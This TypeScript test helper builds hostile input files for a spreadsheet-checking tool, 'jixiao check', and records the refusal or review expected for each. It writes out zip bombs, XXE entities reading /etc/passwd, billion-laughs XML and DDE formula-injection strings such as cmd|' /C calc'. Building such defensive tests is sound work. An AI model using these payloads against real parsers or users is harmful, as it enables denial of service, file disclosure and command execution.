/**
 * The hostile-file corpus: files a finance bureau may be sent, broken by accident or built to hurt, each
 * beside what `jixiao check` must do with it. Hostile zips are written by hand (deflate streams of zeros,
 * directories that lie); odd but valid workbooks start from seed 004's layout. Nothing is checked in:
 * `npm run corpus:hostile -- FOLDER` or the tests build it.
 */
import ExcelJS from 'exceljs';
import { once } from 'node:events';
import { mkdir, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as zlib from 'node:zlib';
import { createDeflateRaw, deflateRawSync, inflateRawSync } from 'node:zlib';
import * as SheetJs from '@e965/xlsx';
import { crc32 as tableCrc32 } from '../../src/hosts/xlsx/zip-write';
import { layoutsToXlsx } from '../fixtures/build-fixtures';
import { seed004Attachment1, seed004Attachment2 } from '../fixtures/seed-layouts';

/** What the command line must do: refuse with a reason matching the pattern, or review the file. */
export type Outcome =
  | { readonly refused: RegExp }
  | { readonly reviewed: true }
  /** Read, but nothing in it is a form: said so, and not clean. */
  | { readonly withoutForm: true };

export interface HostileFile {
  readonly file: string;
  /** What the file is, in a few words. */
  readonly what: string;
  readonly outcome: Outcome;
  readonly write: (path: string) => Promise<void>;
}

// ---------------------------------------------------------------------------------------------------------
// A zip writer and reader, small enough to lie with.
// ---------------------------------------------------------------------------------------------------------

/** zlib's own CRC (Node 20.15+) is native, which matters for the gigabytes of zeros below; else the table. */
const crc32 = (data: Uint8Array, previous = 0): number =>
  typeof zlib.crc32 === 'function' ? zlib.crc32(data, previous) : tableCrc32(data, previous);

/** One part of a zip; `claim` makes the central directory state other sizes than the real ones. */
interface ZipPart {
  readonly name: string;
  readonly data: Uint8Array;
  readonly method: 0 | 8;
  readonly size: number;
  readonly crc: number;
  readonly claim?: { readonly size?: number; readonly packed?: number };
  /** Point the directory at an earlier part's data instead of writing it again (overlapping entries). */
  readonly sameDataAs?: string;
  /** General-purpose flags (bit 0: encrypted); UTF-8 names are always flagged. */
  readonly flags?: number;
}

const bytesOf = (data: string | Uint8Array): Uint8Array =>
  typeof data === 'string' ? new TextEncoder().encode(data) : data;

export function stored(name: string, content: string | Uint8Array): ZipPart {
  const data = bytesOf(content);
  return { name, data, method: 0, size: data.length, crc: crc32(data) };
}

export function deflated(name: string, content: string | Uint8Array): ZipPart {
  const data = bytesOf(content);
  return { name, data: deflateRawSync(data), method: 8, size: data.length, crc: crc32(data) };
}

/** Deflates a part from a stream of pieces, so a huge part never stands whole in memory. */
async function deflatedPieces(name: string, pieces: Iterable<string | Uint8Array>): Promise<ZipPart> {
  const deflate = createDeflateRaw({ level: 6 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  let size = 0;
  let crc = 0;
  for (const piece of pieces) {
    const data = bytesOf(piece);
    size += data.length;
    crc = crc32(data, crc);
    if (!deflate.write(data)) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  return { name, data: Buffer.concat(out), method: 8, size, crc };
}

export function zip(parts: readonly ZipPart[]): Buffer {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  const offsets = new Map<string, number>();
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8');
    const packed = part.claim?.packed ?? part.data.length;
    const size = part.claim?.size ?? part.size;
    let at = part.sameDataAs === undefined ? undefined : offsets.get(part.sameDataAs);
    if (at === undefined) {
      at = offset;
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(0x0800 | (part.flags ?? 0), 6);
      local.writeUInt16LE(part.method, 8);
      local.writeUInt16LE(0x21, 12);
      local.writeUInt32LE(part.crc, 14);
      local.writeUInt32LE(packed, 18);
      local.writeUInt32LE(size, 22);
      local.writeUInt16LE(name.length, 26);
      locals.push(local, name, part.data);
      offset += local.length + name.length + part.data.length;
      offsets.set(part.name, at);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800 | (part.flags ?? 0), 8);
    central.writeUInt16LE(part.method, 10);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(part.crc, 16);
    central.writeUInt32LE(packed, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at, 42);
    centrals.push(central, name);
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The parts of a well-formed zip (ExcelJS's output), by name. */
export function unzip(bytes: Uint8Array): Map<string, string | Uint8Array> {
  const buffer = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const end = buffer.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const parts = new Map<string, string | Uint8Array>();
  let at = buffer.readUInt32LE(end + 16);
  for (let i = 0; i < buffer.readUInt16LE(end + 10); i++) {
    const method = buffer.readUInt16LE(at + 10);
    const packed = buffer.readUInt32LE(at + 20);
    const nameLength = buffer.readUInt16LE(at + 28);
    const local = buffer.readUInt32LE(at + 42);
    const name = buffer.toString('utf8', at + 46, at + 46 + nameLength);
    const start = local + 30 + buffer.readUInt16LE(local + 26) + buffer.readUInt16LE(local + 28);
    const data = buffer.subarray(start, start + packed);
    parts.set(name, method === 8 ? inflateRawSync(data) : Buffer.from(data));
    at += 46 + nameLength + buffer.readUInt16LE(at + 30) + buffer.readUInt16LE(at + 32);
  }
  return parts;
}

const rezip = (parts: ReadonlyMap<string, string | Uint8Array>): Buffer =>
  zip([...parts].map(([name, data]) => deflated(name, data)));

// ---------------------------------------------------------------------------------------------------------
// Workbooks to start from.
// ---------------------------------------------------------------------------------------------------------

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** The parts of a one-sheet workbook whose sheet1.xml the caller replaces. */
export async function skeleton(): Promise<Map<string, string | Uint8Array>> {
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('Sheet1').getCell('A1').value = '项目';
  return unzip(new Uint8Array(await workbook.xlsx.writeBuffer()));
}

export function sheetXml(body: { data?: string; before?: string; after?: string; prolog?: string }): string {
  return `${XML_HEAD}${body.prolog ?? ''}<worksheet xmlns="${MAIN_NS}" xmlns:r="${REL_NS}">${body.before ?? ''}<sheetData>${body.data ?? '<row r="1"><c r="A1" t="inlineStr"><is><t>项目</t></is></c></row>'}</sheetData>${body.after ?? ''}</worksheet>`;
}

export async function withSheet(xml: string | Uint8Array): Promise<Buffer> {
  const parts = await skeleton();
  parts.set('xl/worksheets/sheet1.xml', xml);
  return rezip(parts);
}

/** Seed 004 (附件1 基础数据表 and 附件2 整体支出) loaded into ExcelJS, for odd but valid variants. */
async function seedWorkbook(): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await layoutsToXlsx([seed004Attachment1(), seed004Attachment2()]));
  return workbook;
}

async function seedVariant(edit: (attachment2: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void) {
  const workbook = await seedWorkbook();
  const sheet = workbook.getWorksheet('附件2');
  if (!sheet) throw new Error('seed 004 has no 附件2');
  edit(sheet, workbook);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

const save =
  (make: () => Promise<Uint8Array> | Uint8Array) =>
  async (path: string): Promise<void> => {
    await writeFile(path, await make());
  };

/** 1 MiB of zeros, fed again and again to the deflater: gigabytes described, a megabyte held. */
function* zeros(mebibytes: number): Generator<Uint8Array> {
  const block = new Uint8Array(1024 * 1024);
  for (let i = 0; i < mebibytes; i++) yield block;
}

const OLE_HEADER = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

/** An OLE compound file's first sector, with the stream names an encrypted .xlsx carries. */
function oleFile(streams: readonly string[]): Uint8Array {
  const bytes = Buffer.alloc(2048);
  Buffer.from(OLE_HEADER).copy(bytes, 0);
  bytes.writeUInt16LE(0x3e, 24);
  bytes.writeUInt16LE(3, 26);
  bytes.writeUInt16LE(0xfffe, 28);
  bytes.writeUInt16LE(9, 30);
  streams.forEach((stream, i) => Buffer.from(stream, 'utf16le').copy(bytes, 512 + i * 128));
  return bytes;
}

/** A real workbook of `rows` × `cols` numbers in another format, written by SheetJS. */
function sheetJsBytes(bookType: 'biff8' | 'ods', rows: number, cols: number): Uint8Array {
  const data = Array.from({ length: rows }, (_, r) => Array.from({ length: cols }, (_, c) => r * cols + c));
  const book = SheetJs.utils.book_new();
  SheetJs.utils.book_append_sheet(book, SheetJs.utils.aoa_to_sheet(data), 'Sheet1');
  return new Uint8Array(SheetJs.write(book, { type: 'array', bookType }) as ArrayBuffer);
}

/** A deterministic scramble, so the corpus is the same on every run. */
function noise(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 0x2545f491;
  for (let i = 0; i < length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[i] = state & 0xff;
  }
  return bytes;
}

const LONG_TEXT = '偏差原因：预算调整、合计与小计不符。'.repeat(2000).slice(0, 32_767);

const refused = (pattern: RegExp): Outcome => ({ refused: pattern });
const reviewed: Outcome = { reviewed: true };

// ---------------------------------------------------------------------------------------------------------
// The corpus.
// ---------------------------------------------------------------------------------------------------------

export const HOSTILE: readonly HostileFile[] = [
  // Not an .xlsx at all.
  {
    file: 'empty.xlsx',
    what: 'an empty file',
    outcome: refused(/文件是空的/),
    write: save(() => new Uint8Array(0)),
  },
  {
    file: 'oversize.xlsx',
    what: 'a 51 MiB file (sparse on disk)',
    outcome: refused(/大于 50 MB 的上限/),
    write: async (path) => {
      await writeFile(path, Buffer.from('PK\u0003\u0004', 'latin1'));
      await truncate(path, 51 * 1024 * 1024);
    },
  },
  {
    file: 'not-a-zip.xlsx',
    what: 'binary noise behind a PNG signature',
    outcome: refused(/^不是 \.xlsx 文件（可能是改了扩展名的其他文件）/),
    write: save(() => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), noise(4096)])),
  },
  {
    file: 'csv-renamed.xlsx',
    what: 'a CSV export renamed .xlsx',
    outcome: refused(/^不是 \.xlsx 文件，内容像是 CSV/),
    write: save(() => bytesOf('项目名称,预算数,执行数\n社区建设,"1,200.50",1180\n环境整治,300,-12\n')),
  },
  {
    file: 'html-export.xlsx',
    what: 'an HTML table saved as .xlsx by a web system',
    outcome: refused(/^不是 \.xlsx 文件，内容像是网页/),
    write: save(() =>
      bytesOf(
        '<html><head><meta charset="utf-8"></head><body><table><tr><td>项目</td></tr></table></body></html>',
      ),
    ),
  },
  {
    file: 'pdf-renamed.xlsx',
    what: 'a PDF renamed .xlsx',
    outcome: refused(/^不是 \.xlsx 文件，内容像是 PDF/),
    write: save(() => Buffer.concat([bytesOf('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n'), noise(2048)])),
  },
  {
    file: 'old-excel-97.xls',
    what: 'an Excel 97-2003 workbook (OLE compound file) whose Workbook stream is junk',
    outcome: refused(/已损坏的 Excel 97-2003 或 WPS 工作簿/),
    write: save(() => oleFile(['Root Entry', 'Workbook', '\u0005SummaryInformation'])),
  },
  {
    file: 'password-protected.xlsx',
    what: 'a workbook with an open password (Excel stores it as an OLE file)',
    outcome: refused(/设了打开密码/),
    write: save(() => oleFile(['Root Entry', 'EncryptionInfo', 'EncryptedPackage', '\u0006DataSpaces'])),
  },

  // Broken zips.
  {
    file: 'truncated.xlsx',
    what: 'a real workbook cut at 60 %',
    outcome: refused(/不完整或已损坏（找不到压缩包的目录）/),
    write: save(async () => {
      const whole = new Uint8Array(await layoutsToXlsx([seed004Attachment2()]));
      return whole.subarray(0, Math.floor(whole.length * 0.6));
    }),
  },
  {
    file: 'entry-past-end.xlsx',
    what: 'a directory claiming a part runs 10 MB past the end',
    outcome: refused(/超出了文件末尾/),
    write: save(async () => {
      const parts = [...(await skeleton())].map(([name, data]) => deflated(name, data));
      const [first, ...rest] = parts;
      if (!first) throw new Error('empty skeleton');
      return zip([{ ...first, claim: { packed: 10_000_000 } }, ...rest]);
    }),
  },
  {
    file: 'no-workbook.xlsx',
    what: 'a Word document renamed .xlsx: read as a report, with no table in it',
    outcome: { withoutForm: true },
    write: save(() =>
      zip([
        deflated('[Content_Types].xml', `${XML_HEAD}<Types/>`),
        deflated('word/document.xml', `${XML_HEAD}<w:document/>`),
      ]),
    ),
  },
  {
    file: 'no-package.xlsx',
    what: 'a zip holding neither a workbook nor a Word document',
    outcome: refused(/没有 Excel 工作簿内容/),
    write: save(() =>
      zip([deflated('[Content_Types].xml', `${XML_HEAD}<Types/>`), deflated('readme.txt', '不是工作簿')]),
    ),
  },
  {
    file: 'malformed-xml.xlsx',
    what: 'a sheet whose XML stops mid-tag',
    outcome: refused(/已损坏或不是 Excel 能打开/),
    write: save(() =>
      withSheet(
        `${XML_HEAD}<worksheet xmlns="${MAIN_NS}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>`,
      ),
    ),
  },

  // Zip bombs.
  {
    file: 'zip-bomb.xlsx',
    what: '20 directory entries over one deflate stream of 200 MiB of zeros: 4 GiB from 200 KB',
    outcome: refused(/^文件解压后超过 300 MB，可能是恶意构造的压缩包，已拒绝读取。$/),
    write: save(async () => {
      const bomb = await deflatedPieces('xl/media/image0.bin', zeros(200));
      const copies = Array.from({ length: 19 }, (_, i) => ({
        ...bomb,
        name: `xl/media/image${String(i + 1)}.bin`,
        sameDataAs: bomb.name,
      }));
      const parts = [...(await skeleton())].map(([name, data]) => deflated(name, data));
      return zip([...parts, bomb, ...copies]);
    }),
  },
  {
    file: 'ratio-bomb.xlsx',
    what: 'one 250 MiB part of zeros packed into 250 KB',
    outcome: refused(/压缩比超过 200 倍/),
    write: save(async () => {
      const parts = [...(await skeleton())].map(([name, data]) => deflated(name, data));
      return zip([...parts, await deflatedPieces('xl/media/image1.bin', zeros(250))]);
    }),
  },
  {
    file: 'lying-bomb.xlsx',
    what: 'a part whose directory says 1 KB while its stream inflates to 200 MiB',
    outcome: refused(/大小不符/),
    write: save(async () => {
      const parts = [...(await skeleton())].map(([name, data]) => deflated(name, data));
      const bomb = await deflatedPieces('xl/media/image1.png', zeros(200));
      return zip([...parts, { ...bomb, claim: { size: 1024 } }]);
    }),
  },
  {
    file: 'too-many-entries.xlsx',
    what: '10 001 tiny parts',
    outcome: refused(/超过 10,000 个部件/),
    write: save(async () => {
      const parts = [...(await skeleton())].map(([name, data]) => deflated(name, data));
      const padding = Array.from({ length: 10_001 }, (_, i) => stored(`xl/media/pad${String(i)}.txt`, 'x'));
      return zip([...parts, ...padding]);
    }),
  },

  // XML that attacks the parser.
  {
    file: 'billion-laughs.xlsx',
    what: 'nested entity declarations in a sheet (exponential expansion)',
    outcome: refused(/DOCTYPE 或 ENTITY/),
    write: save(() => {
      const entities = Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY lol${String(i + 1)} "${`&lol${i === 0 ? '' : String(i)};`.repeat(10)}">`,
      );
      return withSheet(
        sheetXml({
          prolog: `<!DOCTYPE worksheet [<!ENTITY lol "lol">${entities.join('')}]>`,
          data: '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
        }),
      );
    }),
  },
  {
    file: 'xxe.xlsx',
    what: 'an external entity reading /etc/passwd from the shared strings',
    outcome: refused(/DOCTYPE 或 ENTITY/),
    write: save(async () => {
      const parts = await skeleton();
      parts.set(
        'xl/sharedStrings.xml',
        `${XML_HEAD}<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst xmlns="${MAIN_NS}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>`,
      );
      return rezip(parts);
    }),
  },
  {
    file: 'utf16-sheet.xlsx',
    what: 'a sheet in UTF-16 (a way to hide a DOCTYPE from byte scanners)',
    outcome: refused(/不是 UTF-8 编码/),
    write: save(() =>
      withSheet(
        Buffer.from(
          `\uFEFF${sheetXml({ prolog: '<!DOCTYPE worksheet [<!ENTITY a "b">]>' }).replace('UTF-8', 'UTF-16')}`,
          'utf16le',
        ),
      ),
    ),
  },

  // Sheets that make ExcelJS or recognition build too much.
  {
    file: 'million-rows.xlsx',
    what: '1 000 000 rows × 3 cells, streamed (about 90 MB of sheet XML)',
    outcome: refused(/单元格的上限/),
    write: save(async () => {
      function* rows(): Generator<string> {
        yield `${XML_HEAD}<worksheet xmlns="${MAIN_NS}"><dimension ref="A1:C1000000"/><sheetData>`;
        for (let start = 1; start <= 1_000_000; start += 10_000) {
          let block = '';
          for (let r = start; r < start + 10_000; r++) {
            const n = String(r);
            block += `<row r="${n}"><c r="A${n}"><v>${n}</v></c><c r="B${n}"><v>${String(r % 97)}.5</v></c><c r="C${n}" t="inlineStr"><is><t>项目${n}</t></is></c></row>`;
          }
          yield block;
        }
        yield '</sheetData></worksheet>';
      }
      const parts = [...(await skeleton())]
        .filter(([name]) => name !== 'xl/worksheets/sheet1.xml')
        .map(([name, data]) => deflated(name, data));
      return zip([...parts, await deflatedPieces('xl/worksheets/sheet1.xml', rows())]);
    }),
  },
  {
    file: 'merge-bomb.xlsx',
    what: 'one merge over the whole sheet (ExcelJS would create 17 billion cells)',
    outcome: refused(/单元格的上限/),
    write: save(() =>
      withSheet(sheetXml({ after: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>' })),
    ),
  },
  {
    file: 'many-merges.xlsx',
    what: '6 000 small merges (ExcelJS checks each against all before it)',
    outcome: refused(/合并单元格超过 5,000 处/),
    write: save(() => {
      const merges = Array.from(
        { length: 6000 },
        (_, i) => `<mergeCell ref="A${String(2 * i + 1)}:B${String(2 * i + 1)}"/>`,
      );
      return withSheet(sheetXml({ after: `<mergeCells count="6000">${merges.join('')}</mergeCells>` }));
    }),
  },
  {
    file: 'validation-bomb.xlsx',
    what: 'a data validation over the whole sheet (ExcelJS expands it cell by cell)',
    outcome: refused(/单元格的上限/),
    write: save(() =>
      withSheet(
        sheetXml({
          after:
            '<dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation></dataValidations>',
        }),
      ),
    ),
  },
  {
    file: 'column-bomb.xlsx',
    what: 'a column definition up to column 2 000 000 000',
    outcome: refused(/最大列/),
    write: save(() =>
      withSheet(sheetXml({ before: '<cols><col min="1" max="2000000000" width="9"/></cols>' })),
    ),
  },
  {
    file: 'far-corner.xlsx',
    what: 'two cells, A1 and XFD1048576',
    outcome: refused(/使用区域达 1,048,576 行 × 16,384 列/),
    write: save(async () => {
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('附件2');
      sheet.getCell('A1').value = '预算单位名称';
      sheet.getCell('XFD1048576').value = 1;
      return new Uint8Array(await workbook.xlsx.writeBuffer());
    }),
  },
  {
    file: 'row-beyond-excel.xlsx',
    what: 'a cell in row 1 000 000 000, past Excel’s last row',
    outcome: refused(/超出了 Excel 的最大行/),
    write: save(() =>
      withSheet(
        sheetXml({
          data: '<row r="1"><c r="A1"><v>1</v></c></row><row r="1000000000"><c r="A1000000000"><v>2</v></c></row>',
        }),
      ),
    ),
  },

  // Valid workbooks with odd content: reviewed, never a crash.
  {
    file: 'columns-16384.xlsx',
    what: 'seed 004 plus a sheet using all 16 384 columns',
    outcome: reviewed,
    write: save(() =>
      seedVariant((_sheet, workbook) => {
        const wide = workbook.addWorksheet('宽表');
        for (let c = 1; c <= 16_384; c++) {
          wide.getCell(1, c).value = c;
          wide.getCell(2, c).value = `列${String(c)}`;
        }
      }),
    ),
  },
  {
    file: 'long-cells.xlsx',
    what: '32 767-character cells in goals, deviation causes and a sheet of them',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet, workbook) => {
        sheet.getCell('B11').value = LONG_TEXT;
        sheet.getCell('E11').value = LONG_TEXT;
        for (let r = 13; r <= 20; r++) sheet.getCell(`I${String(r)}`).value = LONG_TEXT;
        const notes = workbook.addWorksheet('说明');
        for (let r = 1; r <= 60; r++) notes.getCell(`A${String(r)}`).value = LONG_TEXT;
      }),
    ),
  },
  {
    file: 'external-links.xlsx',
    what: 'formulas into other workbooks by URL, file path and UNC share, and a hyperlink',
    outcome: reviewed,
    write: save(async () => {
      const parts = unzip(
        await seedVariant((sheet) => {
          sheet.getCell('D4').value = { formula: '[1]Sheet1!$D$4', result: 2706.79 };
          sheet.getCell('E4').value = { formula: '[2]Sheet1!$E$4+[3]Sheet1!$E$4', result: 2706.79 };
          sheet.getCell('B2').value = {
            text: '岳阳市岳阳楼区望岳街道办事处',
            hyperlink: 'http://example.invalid/',
          };
        }),
      );
      const targets = [
        'http://example.invalid/steal.xlsx',
        'file:///C:/Users/Public/secret.xlsx',
        '\\\\fileserver.invalid\\share\\budget.xlsx',
      ];
      const text = (name: string): string => {
        const part = parts.get(name) ?? '';
        return typeof part === 'string' ? part : new TextDecoder().decode(part);
      };
      let types = text('[Content_Types].xml');
      let workbookXml = text('xl/workbook.xml');
      let rels = text('xl/_rels/workbook.xml.rels');
      const references: string[] = [];
      targets.forEach((target, i) => {
        const n = String(i + 1);
        parts.set(
          `xl/externalLinks/externalLink${n}.xml`,
          `${XML_HEAD}<externalLink xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="4"><cell r="D4"><v>2706.79</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
        );
        parts.set(
          `xl/externalLinks/_rels/externalLink${n}.xml.rels`,
          `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL_NS}/externalLinkPath" Target="${target.replace(/&/g, '&amp;')}" TargetMode="External"/></Relationships>`,
        );
        types = types.replace(
          '</Types>',
          `<Override PartName="/xl/externalLinks/externalLink${n}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`,
        );
        rels = rels.replace(
          '</Relationships>',
          `<Relationship Id="rIdExt${n}" Type="${REL_NS}/externalLink" Target="externalLinks/externalLink${n}.xml"/></Relationships>`,
        );
        references.push(`<externalReference r:id="rIdExt${n}"/>`);
      });
      workbookXml = workbookXml.replace(
        '</sheets>',
        `</sheets><externalReferences>${references.join('')}</externalReferences>`,
      );
      parts.set('[Content_Types].xml', types);
      parts.set('xl/workbook.xml', workbookXml);
      parts.set('xl/_rels/workbook.xml.rels', rels);
      return rezip(parts);
    }),
  },
  {
    file: 'formula-errors.xlsx',
    what: 'amount and rate cells whose formulas return #DIV/0! and #REF!',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('D4').value = { formula: 'C4/0', result: { error: '#DIV/0!' } };
        sheet.getCell('G4').value = { formula: 'E4/#REF!', result: { error: '#REF!' } };
        sheet.getCell('H4').value = { formula: 'G4*10', result: { error: '#REF!' } };
        sheet.getCell('H13').value = { formula: '#REF!', result: { error: '#REF!' } };
      }),
    ),
  },
  {
    file: 'circular.xlsx',
    what: 'circular references: 执行率 refers to itself, two scores refer to each other',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('G4').value = { formula: 'E4/D4+G4-G4', result: 1 };
        sheet.getCell('H13').value = { formula: 'H14', result: 4 };
        sheet.getCell('H14').value = { formula: 'H13', result: 4 };
      }),
    ),
  },
  {
    file: 'merged-headers.xlsx',
    what: 'merges across the amount headers and the indicator level headers',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.mergeCells('D3:E3');
        sheet.mergeCells('B12:C12');
      }),
    ),
  },
  {
    file: 'fullwidth-sheet-names.xlsx',
    what: 'sheet names in full-width characters',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet, workbook) => {
        sheet.name = '附件２（整体支出）';
        const first = workbook.getWorksheet('附件1');
        if (first) first.name = '附件１：基础数据表';
      }),
    ),
  },
  {
    file: 'spaced-numbers.xlsx',
    what: 'amounts typed with spaces, thousand separators and full-width digits',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('C4').value = ' 942.79 ';
        sheet.getCell('D4').value = '2 706.79';
        sheet.getCell('E4').value = '2,706.79';
        sheet.getCell('F4').value = '１０';
        sheet.getCell('G13').value = '４';
      }),
    ),
  },
  {
    file: 'negative-amounts.xlsx',
    what: 'negative budget and spending',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('C4').value = -942.79;
        sheet.getCell('D4').value = -2706.79;
        sheet.getCell('E4').value = -1200;
        sheet.getCell('H13').value = -4;
      }),
    ),
  },
  {
    file: 'dates-in-amounts.xlsx',
    what: 'dates in the amount and score cells',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('D4').value = new Date(Date.UTC(2023, 11, 31));
        sheet.getCell('E4').value = new Date(Date.UTC(2024, 0, 1));
        sheet.getCell('E4').numFmt = 'yyyy-mm-dd';
        sheet.getCell('H13').value = new Date(Date.UTC(1900, 0, 4));
      }),
    ),
  },
  {
    file: 'formula-injection.xlsx',
    what: 'text that a spreadsheet would run as a formula if written as one',
    outcome: reviewed,
    write: save(() =>
      seedVariant((sheet) => {
        sheet.getCell('B2').value = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")';
        sheet.getCell('I13').value = "+cmd|' /C calc'!A0";
        sheet.getCell('I14').value = "@SUM(1+1)*cmd|' /C calc'!A0";
        sheet.getCell('I15').value = "-2+3+cmd|' /C calc'!A0";
      }),
    ),
  },
  // The other formats a reviewer receives: their readers are bounded as the .xlsx reader is.
  {
    file: 'damaged.xls',
    what: 'a real .xls cut at 60 %',
    outcome: refused(/已损坏的 Excel 97-2003 或 WPS 工作簿|已损坏或不是/),
    write: save(() => {
      const whole = sheetJsBytes('biff8', 200, 6);
      return whole.subarray(0, Math.floor(whole.length * 0.6));
    }),
  },
  {
    file: 'many-rows.xls',
    what: 'an .xls of 22 000 rows, more than its reader reads of a sheet (an .xls holds no more than 65 536)',
    outcome: { withoutForm: true },
    write: save(() => sheetJsBytes('biff8', 22_000, 1)),
  },
  {
    file: 'cell-bomb.ods',
    what: 'an OpenDocument sheet whose one cell is repeated over 16 000 columns and a million rows',
    outcome: refused(/单元格的上限/),
    write: save(() =>
      zip([
        stored('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
        deflated(
          'content.xml',
          `${XML_HEAD}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="表"><table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
        ),
        deflated(
          'styles.xml',
          `${XML_HEAD}<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`,
        ),
      ]),
    ),
  },
  {
    file: 'zip-bomb.docx',
    what: 'a Word report whose document part inflates from 250 KB to 250 MiB',
    outcome: refused(/压缩比超过 200 倍|解压后超过/),
    write: save(async () =>
      zip([
        deflated('[Content_Types].xml', `${XML_HEAD}<Types/>`),
        await deflatedPieces('word/document.xml', zeros(250)),
      ]),
    ),
  },
  {
    file: 'xxe.docx',
    what: 'a Word report with an external entity reading /etc/passwd',
    outcome: refused(/DOCTYPE 或 ENTITY/),
    write: save(() =>
      zip([
        deflated('[Content_Types].xml', `${XML_HEAD}<Types/>`),
        deflated(
          'word/document.xml',
          `${XML_HEAD}<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>`,
        ),
      ]),
    ),
  },
];

/** The unit name the formula-injection file carries, for the review test to find in the summary. */
export const INJECTED_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")';

/** Writes every corpus file into `dir`; returns their paths in corpus order. */
export async function makeHostileCorpus(dir: string): Promise<string[]> {
  await mkdir(dir, { recursive: true });
  const written: string[] = [];
  for (const entry of HOSTILE) {
    const path = join(dir, entry.file);
    await entry.write(path);
    written.push(path);
  }
  return written;
}
